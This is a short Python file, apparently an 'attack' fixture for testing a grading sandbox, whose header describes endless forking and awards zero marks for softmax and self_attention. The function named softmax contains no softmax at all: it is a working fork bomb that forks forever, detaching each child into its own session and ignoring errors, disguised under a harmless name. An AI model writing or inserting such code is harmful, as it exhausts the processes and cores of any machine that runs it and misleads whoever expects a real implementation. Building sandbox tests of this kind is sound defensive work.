# /// attack
# about = "forks without end, each child in a session of its own"
# module = "worked_example"
# base = "reference"
# deserves = { "worked_example.softmax" = 0, "worked_example.self_attention" = 0 }
# costly = "twenty seconds of every core; thread_bomb and double_fork start what they may"
# ///
import os


def softmax(scores, axis=-1):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
